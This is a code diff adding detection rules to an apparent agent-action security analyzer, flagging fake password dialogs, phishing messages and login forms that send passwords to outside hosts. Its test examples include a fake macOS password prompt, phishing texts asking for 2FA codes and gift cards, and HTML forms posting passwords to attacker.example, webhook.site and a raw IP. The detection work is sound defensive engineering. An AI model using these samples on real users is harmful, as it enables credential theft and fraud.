@@ -1,5 +1,124 @@
-import { ruleAnalyzer, type Rule } from '../rule.js';
+import { ruleAnalyzer, hasArg, type AnalysisInput, type Rule } from '../rule.js';
+import type { SimpleCommand } from '../shell/types.js';
+import { destinationOf } from '../knowledge/hosts.js';
 
-export const RULES: readonly Rule[] = [];
+/** Message text beyond this is not read; a phishing ask sits in the first screen. */
+const MAX_TEXT = 64 * 1024;
+
+const CREDENTIAL_ASK = ['send me your password', 'reply with your password', 'confirm your password', 'enter your password', 'verify your password', 'your 2fa code', '2fa code', 'verification code', 'one-time code', 'one time code', 'one-time password', 'otp code', 'security code', 'seed phrase', 'recovery phrase', 'secret recovery phrase', 'mnemonic phrase', 'your private key', 'login credentials', 'your credentials', 'sign in to verify', 'log in to verify', 'confirm your identity', 'social security number', 'card number', 'cvv'];
+const PAYMENT_ASK = ['gift card', 'gift cards', 'itunes card', 'steam card', 'google play card', 'wire transfer', 'wire the', 'bank transfer', 'send bitcoin', 'send btc', 'send usdt', 'routing number', 'bank details', 'payment details', 'pay the invoice', 'overdue invoice'];
+const URGENCY = ['urgent', 'urgently', 'immediately', 'right away', 'within 24 hours', 'within 24h', 'within the hour', 'asap', 'account will be suspended', 'account has been suspended', 'account will be locked', 'account has been locked', 'will be deactivated', 'final notice', 'final warning', 'act now', 'verify your account', 'unusual activity', 'suspicious activity', 'unauthorized login', 'keep this confidential', 'do not tell anyone', "don't tell anyone", 'before end of day'];
+
+const count = (t: string, phrases: readonly string[]) => phrases.filter((p) => t.includes(p));
+
+/** A credential or payment ask with pressure or a link: the two halves of every phishing message. */
+function phishing(text: string): string | undefined {
+  const t = text.slice(0, MAX_TEXT).toLowerCase();
+  const cred = count(t, CREDENTIAL_ASK);
+  const pay = count(t, PAYMENT_ASK);
+  const urgent = count(t, URGENCY);
+  const link = t.includes('http://') || t.includes('https://');
+  if (cred.length && (urgent.length || link)) return [...cred, ...urgent].slice(0, 4).join(', ');
+  if (pay.length && urgent.length) return [...pay, ...urgent].slice(0, 4).join(', ');
+  return undefined;
+}
+
+const MAILERS = new Set(['mail', 'mailx', 'sendmail', 'mutt', 'swaks', 'msmtp', 'ssmtp', 'neomutt', 'aerc']);
+const MESSAGE_TOOL = /(?:mail|message|slack|discord|telegram|teams|sms|whatsapp|chat|post_|send_|notify|tweet|comment)/i;
+const MESSAGE_FILE = /\.(?:html?|eml|msg|mbox)$|(?:^|\/)[^/]*(?:mail|phish|message|letter|notice|invoice)[^/]*$/i;
+
+/** Message bodies this call sends or writes: mailer input, chat webhook posts, message-tool params, email files. */
+function messages(i: AnalysisInput): string[] {
+  const out: string[] = [];
+  const call = i.call;
+  if (call.kind === 'network' && call.body && call.method !== 'GET') out.push(call.body);
+  if (call.kind === 'filesystem' && call.content && MESSAGE_FILE.test(call.path)) out.push(call.content);
+  if (call.kind === 'unknown' && MESSAGE_TOOL.test(call.toolName)) out.push(...i.facts.texts);
+  for (const c of i.view?.commands ?? []) {
+    if (MAILERS.has(c.name)) {
+      const body = c.stdin ?? c.redirects.find((r) => r.op === '<<' || r.op === '<<<')?.target ?? (c.pipeFrom ? c.pipeFrom.argv.slice(1).join(' ') : '');
+      out.push([...c.argv.slice(1), body].join('\n'));
+    }
+    if (c.name === 'curl' && i.facts.destinations.some((d) => d.cmd === c && (d.kind === 'chat-webhook' || d.kind === 'webhook'))) out.push(c.argv.slice(1).join(' '));
+  }
+  return out;
+}
+
+/** A macOS/Linux password prompt that a script shows on the user's desktop. */
+function passwordDialog(c: SimpleCommand): string | undefined {
+  const text = c.argv.slice(1).join(' ').slice(0, MAX_TEXT).toLowerCase();
+  if (c.name === 'osascript') {
+    const script = text + ' ' + (c.stdin ?? c.redirects.find((r) => r.op === '<<' || r.op === '<<<')?.target ?? '').toLowerCase();
+    return script.includes('display dialog') && (script.includes('hidden answer') || script.includes('password')) ? 'osascript display dialog with a password field' : undefined;
+  }
+  if (c.name === 'zenity') return hasArg(c, '--password') || (hasArg(c, '--entry') && hasArg(c, '--hide-text')) ? c.argv.join(' ') : undefined;
+  if (c.name === 'kdialog') return hasArg(c, '--password', '--newpassword') ? c.argv.join(' ') : undefined;
+  if (c.name === 'pwsh' || c.name === 'powershell') return text.includes('get-credential') || text.includes('promptforcredential') ? c.argv.join(' ') : undefined;
+  if (c.name === 'yad') return text.includes(':h') && text.includes('password') ? c.argv.join(' ') : undefined;
+  return undefined;
+}
+
+/** An HTML form with a password field that posts to a host outside this machine and its network. */
+function credentialForm(html: string): string | undefined {
+  const t = html.slice(0, MAX_TEXT).toLowerCase();
+  if (!t.includes('<form') || !/type\s{0,3}=\s{0,3}["']?password/.test(t)) return undefined;
+  let from = 0;
+  for (let guard = 0; guard < 64; guard++) {
+    const at = t.indexOf('action', from);
+    if (at < 0) break;
+    const m = /^action\s{0,3}=\s{0,3}["']?([^"'\s>]{1,512})/.exec(t.slice(at, at + 600));
+    const d = m ? destinationOf(m[1]!) : undefined;
+    if (d && d.kind !== 'loopback' && d.kind !== 'private') return `form posts a password to ${d.host}`;
+    from = at + 6;
+  }
+  for (const sink of ['fetch(', 'xmlhttprequest', 'navigator.sendbeacon', '$.post(']) {
+    const at = t.indexOf(sink);
+    if (at < 0) continue;
+    const url = /https?:\/\/[^"'\s)]{1,512}/.exec(t.slice(at, at + 600));
+    const d = url ? destinationOf(url[0]) : undefined;
+    if (d && d.kind !== 'loopback' && d.kind !== 'private') return `script sends form input to ${d.host}`;
+  }
+  return undefined;
+}
+
+function htmlWritten(i: AnalysisInput): string[] {
+  const out: string[] = [];
+  if (i.call.kind === 'filesystem' && i.call.content && /\.(html?|php|aspx?|jsp)$/i.test(i.call.path)) out.push(i.call.content);
+  if (i.call.kind === 'unknown') out.push(...i.facts.texts.filter((t) => t.includes('<form')));
+  for (const c of i.view?.commands ?? []) {
+    const heredoc = c.redirects.find((r) => r.op === '<<' || r.op === '<<<')?.target;
+    if (heredoc && heredoc.includes('<form')) out.push(heredoc);
+    if ((c.name === 'echo' || c.name === 'printf') && c.argv.some((a) => a.includes('<form'))) out.push(c.argv.slice(1).join(' '));
+  }
+  return out;
+}
+
+export const RULES: readonly Rule[] = [
+  {
+    id: 'PX-SOCIAL-001', name: 'fake-password-dialog', score: 90, tactic: 'credential_access', technique: 'T1056.002', strong: true,
+    message: 'Shows a fake system password prompt (osascript hidden answer, zenity/kdialog --password, Get-Credential)', why: 'A dialog that looks like the operating system asking for a password is the standard way malware and rogue scripts phish the login password.',
+    commands: ['osascript', 'zenity', 'kdialog', 'pwsh', 'powershell', 'yad'],
+    test: passwordDialog,
+    examples: { fire: ['osascript -e \'display dialog "macOS needs your password to continue" default answer "" with hidden answer\'', 'zenity --password --title="Authentication required"', 'kdialog --password "Enter your password"', "pwsh -c '$c = Get-Credential; $c.GetNetworkCredential().Password'"], quiet: ['osascript -e \'display notification "Build finished"\'', 'zenity --info --text="Done"', "osascript -e 'tell application \"Terminal\" to activate'"] },
+  },
+  {
+    id: 'PX-SOCIAL-002', name: 'phishing-message', score: 70, tactic: 'initial_access', technique: 'T1566',
+    message: 'Sends or writes a message that asks for passwords, codes, seed phrases or urgent payments', why: 'An agent composing credential or payment requests with pressure or a link is producing phishing, whoever the recipient is.',
+    check: (i) => {
+      for (const m of messages(i)) { const p = phishing(m); if (p) return p; }
+      return undefined;
+    },
+    examples: { fire: [{ Network: { method: 'POST', url: 'https://hooks.slack.com/services/T0/B0/x', body: '{"text":"URGENT: your account will be suspended. Reply with your password and 2FA code."}' } }, 'echo "Please buy 5 gift cards immediately and send me the codes" | mail -s "Urgent request" finance@corp.example', { Unknown: { tool_name: 'send_email', params: { to: 'a@b.example', body: 'Unusual activity detected. Verify your account at https://login-secure.example and enter your password.' } } }, { Filesystem: { operation: 'Write', path: 'out/notice.html', content: '<p>Final notice: confirm your seed phrase within 24 hours</p>' } }], quiet: [{ Network: { method: 'POST', url: 'https://hooks.slack.com/services/T0/B0/x', body: '{"text":"Deploy finished"}' } }, 'echo "Build passed" | mail -s "CI" team@corp.example', { Filesystem: { operation: 'Write', path: 'src/pages/reset.html', content: '<h1>Reset your password</h1><form action="/reset"><input type="email"></form>' } }] },
+  },
+  {
+    id: 'PX-SOCIAL-003', name: 'fake-login-page', score: 80, tactic: 'credential_access', technique: 'T1056.003', strong: true,
+    message: 'Writes a web page whose password form posts to an outside host', why: 'A login form that sends the password to a third-party server is a credential-harvesting page.',
+    check: (i) => {
+      for (const h of htmlWritten(i)) { const f = credentialForm(h); if (f) return f; }
+      return undefined;
+    },
+    examples: { fire: [{ Filesystem: { operation: 'Write', path: 'site/login.html', content: '<form action="https://collect.attacker.example/p" method="post"><input name="u"><input type="password" name="p"></form>' } }, { Filesystem: { operation: 'Write', path: 'index.html', content: '<form id=f><input type=password id=pw></form><script>fetch("https://webhook.site/x",{method:"POST",body:pw.value})</script>' } }, "cat > /var/www/html/o365.html <<'EOF'\n<form action=\"http://45.33.12.7/c\"><input type=\"password\" name=\"pw\"></form>\nEOF"], quiet: [{ Filesystem: { operation: 'Write', path: 'src/login.html', content: '<form action="/api/login" method="post"><input type="password" name="p"></form>' } }, { Filesystem: { operation: 'Write', path: 'src/login.html', content: '<form action="http://localhost:3000/login"><input type="password"></form>' } }] },
+  },
+];
 
 export const socialEngineering = ruleAnalyzer('social_engineering', RULES);
